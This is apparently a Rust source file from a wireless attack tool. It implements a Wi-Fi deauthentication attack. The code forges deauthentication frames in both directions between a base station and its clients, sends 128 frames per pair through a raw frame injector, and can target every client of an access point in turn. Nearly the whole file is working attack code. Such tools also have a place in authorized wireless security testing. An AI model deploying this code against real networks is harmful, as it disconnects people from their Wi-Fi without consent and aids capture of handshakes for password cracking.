// Attack! //

use std::thread;
use std::time::Duration;

use crate::address::HardwareAddress;
use crate::error::{ReconError, Result};
use crate::targets::{AttackTarget, TargetDirectory};
use crate::tx::{
    build_deauthentication_fm_ap, build_deauthentication_fm_client, DeauthenticationReason,
};

/// Sequence numbers 0..DEAUTH_ROUNDS, two frames per round.
pub const DEAUTH_ROUNDS: u16 = 64;
pub const DEAUTH_PACING: Duration = Duration::from_millis(2);
pub const DEAUTH_REASON: DeauthenticationReason =
    DeauthenticationReason::Class2FrameReceivedFromNonauthenticatedSTA;

/// Anything that can put a raw frame on the air.
pub trait FrameInjector: Send {
    fn inject(&mut self, frame: &[u8]) -> Result<()>;
}

fn write_frame(injector: &mut dyn FrameInjector, frame: &[u8]) -> bool {
    match injector.inject(frame) {
        Ok(()) => {
            thread::sleep(DEAUTH_PACING);
            true
        }
        Err(e) => {
            tracing::warn!("deauth injection aborted: {e}");
            false
        }
    }
}

/// Deauthenticate `client` from `base_station` in both directions.
///
/// Stops at the first failed injection. Returns how many frames went out
/// (128 on a clean run).
pub fn send_deauth_packet(
    injector: &mut dyn FrameInjector,
    base_station: &HardwareAddress,
    client: &HardwareAddress,
) -> usize {
    let mut sent = 0;
    for sequence in 0..DEAUTH_ROUNDS {
        let from_ap = build_deauthentication_fm_ap(base_station, client, sequence, DEAUTH_REASON);
        if !write_frame(injector, &from_ap) {
            return sent;
        }
        sent += 1;

        let from_client =
            build_deauthentication_fm_client(base_station, client, sequence, DEAUTH_REASON);
        if !write_frame(injector, &from_client) {
            return sent;
        }
        sent += 1;
    }
    sent
}

/// Outcome of one `wlan.deauth`.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct DeauthSummary {
    pub pairs: Vec<(HardwareAddress, HardwareAddress)>,
    pub frames: usize,
}

impl DeauthSummary {
    /// Any pair that got fewer than the full run.
    pub fn aborted(&self) -> bool {
        self.frames < self.pairs.len() * usize::from(DEAUTH_ROUNDS) * 2
    }
}

/// Run the attack the current target calls for.
///
/// With a client set only that pair is hit. With just a base station every
/// entry in `directory` is hit in turn. Without a base station nothing is sent.
pub fn send_deauth(
    injector: &mut dyn FrameInjector,
    target: &AttackTarget,
    directory: &TargetDirectory,
) -> Result<DeauthSummary> {
    let base_station = target
        .base_station
        .ok_or(ReconError::NoBaseStationConfigured)?;

    let clients: Vec<HardwareAddress> = match target.client {
        Some(client) => vec![client],
        // Snapshot first, the directory lock is not held while sending.
        None => directory
            .targets()
            .into_iter()
            .map(|entry| entry.address())
            .collect(),
    };

    let mut summary = DeauthSummary::default();
    for client in clients {
        summary.frames += send_deauth_packet(injector, &base_station, &client);
        summary.pairs.push((base_station, client));
    }
    Ok(summary)
}
